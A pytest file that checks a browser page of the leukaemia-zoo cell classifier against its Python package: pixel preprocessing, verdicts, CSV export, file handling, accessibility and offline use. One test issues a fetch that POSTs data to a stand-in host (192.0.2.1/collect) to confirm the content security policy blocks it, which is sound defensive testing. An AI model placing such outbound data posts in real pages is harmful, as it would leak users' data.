"""The page in the browser: Pillow's pixels in JavaScript, Python's verdicts in Chromium, and nothing uploaded.

The tests of the arithmetic need Node.js. Those in a browser need Chromium, and LEUKAEMIA_ZOO_NODE_MODULES: a folder
with tools/page/package.json in which `npm install` has been run. They fetch nothing. Where LEUKAEMIA_ZOO_NEEDS_PAGE is
set, none of them may be skipped.
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import functools
import importlib.util
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest
from drawn_fields import draw_field
from PIL import Image

import leukaemia_zoo as lz
from leukaemia_zoo.cells.arrays import lies_on_black
from leukaemia_zoo.cells.cnmc import MERGED_SUBJECTS, subject_from_name
from leukaemia_zoo.cells.preprocessing import Preprocessing
from leukaemia_zoo.common.limits import UNCERTAIN, verdict_codes
from leukaemia_zoo.common.text import NOT_A_DIAGNOSIS
from leukaemia_zoo.smears.segmentation import on_black

ROOT = Path(__file__).parents[1]
SOURCE = ROOT / "docs" / "try"
EXAMPLES = sorted((ROOT / "examples" / "cells").glob("*.png"))
WEIGHTS = ("mobilenet.cnmc", "cnn_attention.cnmc", "mobilenet.pbc_cnmc")
NEEDED = bool(os.environ.get("LEUKAEMIA_ZOO_NEEDS_PAGE"))
MODULES = os.environ.get("LEUKAEMIA_ZOO_NODE_MODULES")

pytestmark = pytest.mark.skipif(not SOURCE.is_dir(), reason="the documentation is not beside the tests")


def tool(name):
    path = ROOT / "tools" / f"{name}.py"
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


parity = tool("page_parity")

with_node = pytest.mark.skipif(shutil.which("node") is None and not NEEDED, reason="Node.js is not on this machine")


def node(code, given):
    """What a piece of JavaScript that imports modules of the page makes of JSON; it ends in `tell(value)`."""
    script = (
        "import fs from 'node:fs';\nconst given = JSON.parse(fs.readFileSync(0, 'utf8'));\n"
        "const tell = (value) => process.stdout.write(JSON.stringify(value));\n"
        "const base64 = (image) => Buffer.from(image.data).toString('base64');\n"
        "const image = ({ width, height, data }) => "
        "({ width, height, channels: 3, data: new Uint8Array(Buffer.from(data, 'base64')) });\n" + code
    )
    done = subprocess.run(
        ["node", "--input-type=module", "--eval", script],
        input=json.dumps(given),
        capture_output=True,
        text=True,
        check=False,
        timeout=100,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def module(name):
    return (SOURCE / name).as_uri()


def sent(pixels):
    return {"width": pixels.shape[1], "height": pixels.shape[0], "data": base64.b64encode(pixels.tobytes()).decode()}


def received(text, shape):
    return np.frombuffer(base64.b64decode(text), np.uint8).reshape(shape)


# --- the arithmetic ---


@with_node
def test_the_pixels_of_a_network_are_those_of_pillow():
    rng = np.random.default_rng(0)
    settings = [
        Preprocessing((100, 100)),
        Preprocessing((128, 96), crop_fraction=0.84, reference_frame=None, interpolation="lanczos"),
        Preprocessing((64, 64), crop_fraction=1.0, interpolation="box"),
        Preprocessing((32, 48), crop_fraction=0.311, interpolation="bilinear"),
    ]
    frames = []
    for width, height in ((450, 450), (256, 256), (300, 257), (100, 90), (640, 480), (517, 700), (33, 25)):
        y, x = np.mgrid[:height, :width]
        noise = rng.integers(0, 256, (height, width, 3)).astype(np.uint8)
        inside = np.hypot((x - width / 2) / width, (y - height / 2) / height) < 0.3
        frames += [noise, np.where(inside[..., None], noise, 0).astype(np.uint8), np.full_like(noise, 255)]
    code = f"""import {{ liesOnBlack, preprocess }} from '{module("pixels.mjs")}';
        const answer = (frame, settings) => [base64(preprocess(frame, settings)), liesOnBlack(frame)];
        tell(given.map(({{ frame, settings }}) => answer(image(frame), settings)));"""
    cases = [(frame, setting) for frame in frames for setting in settings]
    answers = node(code, [{"frame": sent(frame), "settings": setting.to_dict()} for frame, setting in cases])
    for (frame, setting), (pixels, on_black_) in zip(cases, answers, strict=True):
        expected = setting(frame)
        np.testing.assert_array_equal(received(pixels, expected.shape), expected, err_msg=f"{frame.shape} {setting}")
        assert on_black_ == lies_on_black(frame)


@with_node
def test_of_a_tall_frame_the_order_of_passes_changes_two_grey_levels_at_most():
    noise = Image.fromarray(np.random.default_rng(3).integers(70, 190, (40, 17, 3)).astype(np.uint8))
    frame = np.asarray(noise.resize((256, 600), Image.Resampling.BICUBIC))
    setting = Preprocessing((128, 128))
    code = f"""import {{ preprocess }} from '{module("pixels.mjs")}';
        tell(base64(preprocess(image(given.frame), given.settings)));"""
    pixels = node(code, {"frame": sent(frame), "settings": setting.to_dict()})
    expected = setting(frame).astype(int)
    assert np.abs(received(pixels, expected.shape) - expected).max() <= 2


@with_node
def test_a_circle_is_cut_out_as_python_cuts_a_mask():
    rng = np.random.default_rng(1)
    cases = []
    for (width, height), x, y, diameter, scale in (
        ((320, 240), 200.5, 100.25, 80, 0.1),
        ((320, 240), 5, 5, 60, 0.2),
        ((320, 240), 150, 100, 200, 0.03),
        ((200, 200), 190, 199, 33.3, 0.12),
    ):
        field = rng.integers(0, 256, (height, width, 3)).astype(np.uint8)
        rows, columns = np.mgrid[:height, :width]
        mask = np.hypot(columns + 0.5 - x, rows + 0.5 - y) < diameter / 2
        cases.append(({"field": sent(field), "circle": [x, y, diameter, scale]}, on_black(field, mask, scale)))
    code = f"""import {{ circleOnBlack }} from '{module("pixels.mjs")}';
        tell(given.map(({{ field, circle }}) => base64(circleOnBlack(image(field), ...circle))));"""
    for pixels, (_, expected) in zip(node(code, [case for case, _ in cases]), cases, strict=True):
        np.testing.assert_array_equal(received(pixels, expected.shape), expected)


@with_node
def test_verdicts_and_subjects_follow_the_rules_of_python():
    config = lz.model_info("mobilenet.pbc_cnmc").weight.config
    limits = config.verdict_limits
    p = np.random.default_rng(2).uniform(0, 1, 300)
    probabilities = np.stack([p, 1 - p], axis=1)
    names = ["UID_h10_3_1_hem.PNG", "a/b/UID_21_1_2_all.bmp", "UID_7_1_1_all.txt", "cell.png", "UID_H1_1_1_all.webp"]
    code = f"""import {{ subjectOf, verdictOf }} from '{module("results.mjs")}';
        const model = {{ classes: given.classes, verdict_limits: given.limits }};
        tell({{ verdicts: given.p.map((row) => verdictOf(row, model)),
                strict: given.p.map((row) => verdictOf(row, {{ ...model, verdict_limits: given.strict }})),
                none: verdictOf(given.p[0], {{ ...model, verdict_limits: null }}),
                subjects: given.names.map((name) => subjectOf(name, given.merged)) }});"""
    strict = dataclasses.replace(limits, default=(0.2, 0.2))  # rules "all" out up to 0.78, and so where it is likeliest
    given = {"classes": config.class_names, "limits": limits.to_dict(), "p": probabilities.tolist(), "names": names}
    given |= {"strict": strict.to_dict()}
    found = node(code, {**given, "merged": dict(MERGED_SUBJECTS)})
    for verdicts, at in ((found["verdicts"], limits.at()), (found["strict"], strict.at())):
        codes = verdict_codes(probabilities, at)
        assert verdicts == [UNCERTAIN if code < 0 else config.class_names[code] for code in codes]
    assert len(set(found["verdicts"])) == 3
    likeliest = [config.class_names[place] for place in probabilities.argmax(axis=1)]
    assert set(zip(likeliest, found["strict"], strict=True)) >= {("all", "hem"), ("all", "all"), ("hem", "hem")}
    assert found["none"] is None
    assert found["subjects"] == [subject_from_name(name) for name in names] == ["H3", "1", None, None, "H1"]


@with_node
def test_csv_keeps_odd_names_whole():
    rows = [
        {"path": name, "p_all": 0.12345678, "unfamiliar": True} for name in ('a,"b".png', "line\nbreak.png", "é.png")
    ]
    code = f"import {{ csv }} from '{module('results.mjs')}'; tell(csv(given));"
    parsed = list(csv.DictReader(io.StringIO(node(code, rows), newline="")))
    assert [row["path"] for row in parsed] == [row["path"] for row in rows]
    assert {row["p_all"] for row in parsed} == {"0.123457"}
    assert {row["unfamiliar"] for row in parsed} == {"True"}


# --- in a browser ---


def why_not():
    """What is missing for a browser, or None; where one is needed nothing may be."""
    if parity.BROWSER is None:
        return "there is no Chromium or Chrome on this machine"
    if shutil.which("node") is None:
        return "Node.js is not on this machine"
    if MODULES is None or not (Path(MODULES) / "node_modules" / "playwright-core").is_dir():
        return "LEUKAEMIA_ZOO_NODE_MODULES names no folder with tools/page/package.json in which `npm install` was run"
    return None


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    """Folder of the assembled page."""
    if (missing := why_not()) is not None:
        assert not NEEDED, f"LEUKAEMIA_ZOO_NEEDS_PAGE is set, but {missing}"
        pytest.skip(missing)
    folder = tmp_path_factory.mktemp("site") / "try"
    assert tool("build_page").build_page(folder, Path(MODULES)) > 15e6
    return folder


@pytest.fixture(scope="module")
def visit(page, tmp_path_factory):
    """A function that takes steps on the page in a browser, which keeps the page, and gives what each of them gave."""
    profile = tmp_path_factory.mktemp("profile")
    with parity.served(page.parent) as address:

        def take(*steps, **more):
            first = [["goto", f"{address}try/"], ["ready"]]
            answer = parity.browse(Path(MODULES), profile, [*first, *steps], **more)
            assert [line for line in answer["console"] if line.startswith(("error", "pageerror"))] == []
            return answer

        yield take


def judged(files, model, *more):
    return [["select", "#model", model], ["choose", [str(file) for file in files]], ["judged"], *more]


def rows_of(download):
    return list(csv.DictReader(io.StringIO(download["text"], newline="")))


@pytest.mark.parametrize("weight", WEIGHTS)
def test_the_page_says_of_the_example_cells_what_python_says(visit, weight, tmp_path):
    answer = visit(*judged(EXAMPLES, weight, ["download", "#csv-cells"], ["download", "#csv-subjects"]))
    *_, status, cells, subjects = answer["results"]
    expected = lz.predict(weight, EXAMPLES)
    assert status.startswith(f"6 cells judged by {weight}: ")
    assert cells["name"] == f"cells-{weight}.csv"
    difference = parity.differences(weight, EXAMPLES, rows_of(cells))
    assert difference["probability"] < 1e-3
    assert difference["ood_score"] < 1e-3
    assert difference["same"] == 6
    assert list(rows_of(cells)[0]) == list(expected[0].to_dict())
    for row, summary in zip(rows_of(subjects), expected.by_subject(), strict=True):
        record = summary.to_dict()
        assert list(row) == list(record)
        for key, value in record.items():
            if isinstance(value, float):
                assert float(row[key]) == pytest.approx(value, abs=1e-3)
            else:
                assert row[key] == ("" if value is None else str(value))
    # Nothing but what lies beside the page was asked for, and nothing was sent.
    assert {method for method, _ in answer["requests"]} == {"GET"}
    origins = {re.sub(r"^(blob:)?(\w+://[^/]+).*", r"\2", url) for _, url in answer["requests"]}
    assert len(origins) == 1


@pytest.mark.parametrize("weight", WEIGHTS[:2])
@pytest.mark.slow
def test_the_page_says_of_real_cells_what_python_says(visit, weight, shared_data):
    files = parity.real_cells(shared_data / "cnmc")
    rows = rows_of(visit(*judged(files, weight, ["download", "#csv-cells"]))["results"][-1])
    difference = parity.differences(weight, files, rows)
    assert difference["cells"] == difference["same"] == 50
    assert difference["probability"] < 1e-3
    assert difference["ood_score"] < 1e-3


def test_official_files_are_reduced_as_in_python(visit, shared_data):
    files = parity.real_cells(shared_data / "cnmc_original", 12)
    assert {file.suffix for file in files} == {".bmp"}
    rows = rows_of(visit(*judged(files, "mobilenet.cnmc", ["download", "#csv-cells"]))["results"][-1])
    assert parity.differences("mobilenet.cnmc", files, rows)["probability"] < 1e-3


@pytest.fixture
def formats(tmp_path, draw_cell):
    """One cell in the kinds of file that people have."""
    pixels = draw_cell(4, size=300, level=110)
    pixels[100:140, 120:200, 0] = 200
    image = Image.fromarray(pixels)
    alpha = np.full(pixels.shape[:2], 255, np.uint8)
    alpha[:150, :150] = 90
    turned = Image.Exif()
    turned[274] = 6
    profile = _profile_of_another_screen()
    image.save(tmp_path / "plain.png")
    image.save(tmp_path / "plain.bmp")
    image.save(tmp_path / "plain.webp", lossless=True)
    image.convert("L").save(tmp_path / "grey.png")
    image.quantize(64).save(tmp_path / "palette.png")
    Image.fromarray(np.dstack([pixels, alpha])).save(tmp_path / "transparent.png")
    image.save(tmp_path / "profile.png", icc_profile=profile)
    image.save(tmp_path / "photo.jpg", quality=95, icc_profile=profile)
    image.save(tmp_path / "turned.jpg", quality=95, exif=turned)
    return sorted(tmp_path.iterdir())


def _profile_of_another_screen():
    """sRGB's ICC profile with the red and the blue primary swapped, which must change nothing."""
    from PIL import ImageCms

    data = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    count = int.from_bytes(data[128:132], "big")
    places = {bytes(data[132 + 12 * i : 136 + 12 * i]): 132 + 12 * i for i in range(count)}
    red, blue = places[b"rXYZ"], places[b"bXYZ"]
    data[red : red + 4], data[blue : blue + 4] = b"bXYZ", b"rXYZ"
    return bytes(data)


def test_every_kind_of_file_is_read_as_by_python(visit, formats):
    rows = rows_of(visit(*judged(formats, "cnn_attention.cnmc", ["download", "#csv-cells"]))["results"][-1])
    expected = lz.predict("cnn_attention.cnmc", formats)
    # A profile that was followed, or a cell that was not turned, would move them by more than this.
    for row, item in zip(rows, expected, strict=True):
        assert float(row["p_all"]) == pytest.approx(item.probabilities[1], abs=1e-3), row["path"]
        assert float(row["ood_score"]) == pytest.approx(item.ood_score, abs=2e-3), row["path"]


def test_bad_files_are_told_and_the_others_judged(visit, tmp_path, mixed_folder):
    Image.fromarray(np.full((64, 64), 40_000, np.uint16)).save(tmp_path / "deep.png")
    Image.new("RGB", (300, 300), (3, 2, 1)).save(tmp_path / "black.png")
    Image.new("RGB", (64, 64)).save(tmp_path / "cell.tif")
    files = [*sorted(mixed_folder.iterdir()), tmp_path / "deep.png", tmp_path / "black.png", tmp_path / "cell.tif"]
    answer = visit(*judged(files, "cnn_attention.cnmc", ["download", "#csv-cells"], ["text", "#fault"]))
    rows = {row["path"]: row["error"] for row in rows_of(answer["results"][-2])}
    good = {"UID_7_1_1_all.bmp", "UID_H3_1_1_hem.png", "wrong_suffix.jpg"}
    assert {path for path, error in rows.items() if not error} == good
    for path, told in (
        ("cut_off.png", "damaged, cut off"),
        ("empty.bmp", "is empty (0 bytes)"),
        ("text.png", "not an image of a known kind"),
        ("bomb.png", "bomb.png"),
        ("one_pixel.png", "1 x 1 pixels, less than 16"),
        ("deep.png", "16 bits a sample"),
        ("black.png", "is black where the cell should be (highest value 3 of 255"),
        ("cell.tif", "a TIFF image, which browsers do not read"),
    ):
        assert told in rows[path]
    assert answer["results"][-1] == ["2 files passed over, no image by the name."]
    assert "8 not read" in answer["results"][-3]


def test_a_cell_of_a_field_is_cut_out_and_judged_with_the_keyboard_alone(visit, tmp_path):
    field, _ = draw_field([(90, 80, 36, 26)], red=[(200, 60), (60, 190)], size=(300, 240), seed=0)
    Image.fromarray(field).save(tmp_path / "field.png")
    x, y, diameter, scale = 90, 80, 70, 0.11
    steps = [
        *judged([tmp_path / "field.png"], "mobilenet.cnmc"),
        ["evaluate", "document.getElementById('scale').focus()"],
        *(["press", key] for key in "0.11"),
        *_numbers_by_keys(x, y),
        ["press", "Tab"],
        ["evaluate", f"document.activeElement.value = {diameter + 1}"],
        ["press", "ArrowLeft"],
        ["text", ".field output"],
        ["press", "Tab"],
        ["press", "Enter"],
        ["judged"],
        ["download", "#csv-cells"],
        ["text", ".field [role=status]"],
    ]
    answer = visit(*steps)
    (said,), download = answer["results"][-1], answer["results"][-2]
    (row,) = rows_of(download)
    assert row["path"] == f"field.png#x={x},y={y},d={diameter}"
    assert [f"{diameter} pixels, {diameter * scale:.1f} micrometres"] in answer["results"]
    assert said.startswith("Cell 1 is cut out: 7.7 micrometres across")
    rows, columns = np.mgrid[: field.shape[0], : field.shape[1]]
    frame = on_black(field, np.hypot(columns + 0.5 - x, rows + 0.5 - y) < diameter / 2, scale)
    (expected,) = lz.predict("mobilenet.cnmc", frame)
    assert float(row["p_all"]) == pytest.approx(expected.probabilities[1], abs=1e-3)
    assert float(row["ood_score"]) == pytest.approx(expected.ood_score, rel=1e-3)


def _numbers_by_keys(*values):
    for value in values:
        yield ["press", "Tab"]
        yield ["press", "Control+A"]
        yield from (["press", key] for key in str(value))


def test_without_a_scale_nothing_is_cut(visit, tmp_path):
    Image.new("RGB", (200, 160), (230, 220, 225)).save(tmp_path / "field.png")
    steps = [*judged([tmp_path / "field.png"], "mobilenet.cnmc"), ["click", ".field button"]]
    answer = visit(
        *steps, ["text", ".field [role=status]"], ["evaluate", "document.activeElement.id"], ["text", "#status"]
    )
    assert answer["results"][-3][0].startswith("Give the scale above first")
    assert answer["results"][-2] == "scale"
    assert "1 field to mark cells in" in answer["results"][-1][0]


def test_all_can_be_reached_and_done_with_the_keyboard(visit):
    where = "document.activeElement.id || document.activeElement.textContent.trim()"
    steps = []
    for _ in range(6):
        steps += [["press", "Tab"], ["evaluate", where]]
    answer = visit(*steps)
    reached = answer["results"][3::2]
    assert reached[:6] == ["Skip to the results", "leukaemia-zoo", "files", "folder", "examples", "model"]
    shown = visit(
        ["press", "Tab", 5], ["press", "Enter"], ["judged"], ["press", "Tab"], ["press", "ArrowDown"], ["judged"]
    )
    assert shown["results"][4].startswith("6 cells judged by mobilenet.cnmc")
    assert shown["results"][-1].startswith("6 cells judged by cnn_attention.cnmc")


def test_a_screen_reader_hears_it(visit):
    steps = judged(
        EXAMPLES, "cnn_attention.cnmc", ["snapshot"], ["evaluate", "document.title + document.documentElement.lang"]
    )
    *_, heard, title = visit(*steps)["results"]
    for part in (
        'heading "Try it in the browser" [level=1]',
        'button "Choose images"',
        'button "Choose a folder"',
        'combobox "Network"',
        'status: "6 cells judged by cnn_attention.cnmc',
        'table "Subjects"',
        'table "Cells"',
        'columnheader "Verdict"',
        'columnheader "Attention"',
        'img "What the network sees of UID_901_1_1_all.png"',
        'cell "UID_901_1_1_all.png"',
        f'note: "{NOT_A_DIAGNOSIS}"',
    ):
        assert part in heard, f"{part!r} is not in\n{heard}"
    assert re.search(r'img "Attention map of UID_901_1_1_all.png: \d+ % of it on the cell, which fills \d+ %', heard)
    assert title.endswith("leukaemia-zooen")


CONTRAST = """(() => {
  const light = (colour) => {
    const parts = colour.match(/[\\d.]+/g).slice(0, 3).map((part) => part / 255);
    const [r, g, b] = parts.map((part) => (part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = (element) => {
    for (let at = element; at; at = at.parentElement) {
      const colour = getComputedStyle(at).backgroundColor;
      if (!/, 0\\)|transparent/.test(colour)) return colour;
    }
    return 'rgb(255, 255, 255)';
  };
  const found = [];
  for (const element of document.querySelectorAll('body *')) {
    const text = [...element.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim());
    if (!text || !element.offsetParent && getComputedStyle(element).position !== 'fixed') continue;
    const [a, b] = [light(getComputedStyle(element).color), light(ground(element))].sort((x, y) => y - x);
    found.push([(a + 0.05) / (b + 0.05), element.tagName, element.textContent.trim().slice(0, 40)]);
  }
  const dark = light(ground(document.body)) < 0.1;
  return { dark, worst: found.sort((x, y) => x[0] - y[0])[0], count: found.length };
})()"""

IN_SIGHT = """(() => {
  const box = document.getElementById('research').getBoundingClientRect();
  const seen = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
  return seen?.id === 'research' && box.top >= 0 && box.bottom <= innerHeight + 1;
})()"""


@pytest.mark.parametrize(("width", "height", "scheme"), [(360, 740, "dark"), (360, 740, "light"), (1300, 900, "dark")])
def test_it_fits_the_screen_and_can_be_read(visit, width, height, scheme, tmp_path):
    picture = tmp_path / "page.png"
    steps = [
        *judged(EXAMPLES, "mobilenet.pbc_cnmc"),
        ["evaluate", "document.documentElement.scrollWidth"],
        ["evaluate", CONTRAST],
        ["evaluate", IN_SIGHT],
        ["evaluate", "scrollTo(0, document.body.scrollHeight)"],
        ["evaluate", IN_SIGHT],
        ["text", "#research"],
        ["screenshot", str(picture)],
    ]
    *_, across, contrast, first, _, last, sentence, _ = visit(*steps, width=width, height=height, scheme=scheme)[
        "results"
    ]
    assert across == width
    assert contrast["count"] > 40
    assert contrast["dark"] == (scheme == "dark")
    assert contrast["worst"][0] >= 4.5, contrast["worst"]
    assert (first, last) == (True, True)
    assert sentence == [NOT_A_DIAGNOSIS]
    assert Image.open(picture).width == width


@pytest.mark.slow
def test_it_works_without_a_network_once_loaded(page, tmp_path):
    kept = ["wait", "document.getElementById('offline').textContent.includes('is kept on your machine')"]
    run = functools.partial(parity.browse, Path(MODULES), tmp_path / "profile")
    with parity.served(page.parent) as address:
        run([["goto", f"{address}try/"], ["ready"], kept])
    # The server is gone.
    steps = [["goto", f"{address}try/"], ["ready"], ["click", "#examples"], ["judged"]]
    for weight in WEIGHTS[1:]:
        steps += [["select", "#model", weight], ["judged"]]
    answer = run([*steps, ["download", "#csv-cells"]])
    assert answer["results"][3].startswith("6 cells judged by mobilenet.cnmc")
    rows = rows_of(answer["results"][-1])
    assert parity.differences(WEIGHTS[-1], EXAMPLES, rows)["probability"] < 1e-3


def test_the_browser_refuses_to_send_anything_elsewhere(page, tmp_path):
    refused = """new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
      fetch('https://192.0.2.1/collect', { method: 'POST', body: 'cell' }).catch(() => {});
      setTimeout(() => resolve('nothing was refused'), 5000);
    })"""
    with parity.served(page.parent) as address:
        steps = [["goto", f"{address}try/"], ["ready"], ["evaluate", refused]]
        answer = parity.browse(Path(MODULES), tmp_path / "profile", steps)
    assert answer["results"][-1] == "connect-src"


def test_what_was_stopped_can_be_given_again(visit, tmp_path, draw_cell):
    files = [tmp_path / f"{number}.png" for number in range(40)]
    for number, file in enumerate(files):
        Image.fromarray(draw_cell(number, level=80 + 2 * number)).save(file)
    names = [str(file) for file in files]
    steps = [["choose", names], ["click", "#stop"], ["judged"], ["text", "#fault"], ["choose", names], ["judged"]]
    *_, stopped, (told,), _, ended = visit(*steps)["results"]
    done = int(re.match(r"(\d+) cells? judged|No images yet", stopped)[1] or 0)
    assert done < 40
    assert told == f"Stopped: {40 - done} images were not judged. Give them again to go on."
    assert ended.startswith("40 cells judged by mobilenet.cnmc")


def test_dropped_files_are_judged(visit):
    data = base64.b64encode(EXAMPLES[0].read_bytes()).decode()
    dropped = [{"name": EXAMPLES[0].name, "type": "image/png", "base64": data}]
    answer = visit(
        ["drop", "#drop", dropped], ["wait", "document.querySelectorAll('#cells tbody tr').length === 1"], ["judged"]
    )
    assert answer["results"][-1].startswith("1 cell judged by mobilenet.cnmc")


def test_a_page_that_was_not_assembled_says_so(tmp_path):
    if (missing := why_not()) is not None:
        pytest.skip(missing)
    shutil.copytree(SOURCE, tmp_path / "try")
    with parity.served(tmp_path) as address:
        steps = [["goto", f"{address}try/"], ["wait", "!document.getElementById('fault').hidden"], ["text", "#fault"]]
        answer = parity.browse(Path(MODULES), tmp_path / "profile", steps)
    assert "python tools/build_page.py" in answer["results"][-1][0]


def test_another_runtime_is_refused(tmp_path):
    dist = tmp_path / "node_modules" / "onnxruntime-web" / "dist"
    dist.mkdir(parents=True)
    build = tool("build_page")
    for name in build.RUNTIME:
        (dist / name).write_text("something else")
    with pytest.raises(SystemExit, match=r"has the sha256 .* another version of onnxruntime-web"):
        build.build_page(tmp_path / "out", tmp_path)
    assert not (tmp_path / "out").exists()


def test_its_links_lead_to_pages_of_the_documentation():
    links = re.findall(r'href="\.\./(\w*)/?"', (SOURCE / "index.html").read_text(encoding="utf-8"))
    assert {"", "browser", "limits", "models", "segmentation"} <= set(links)
    assert {name for name in links if not (SOURCE.parent / f"{name or 'index'}.md").is_file()} == set()


def test_the_sentence_and_the_weights_are_those_of_the_package():
    html = (SOURCE / "index.html").read_text(encoding="utf-8")
    assert f'id="research">{NOT_A_DIAGNOSIS}</footer>' in html
    assert tuple(lz.model_info(name).weight.name for name in tool("build_page").WEIGHTS) == WEIGHTS
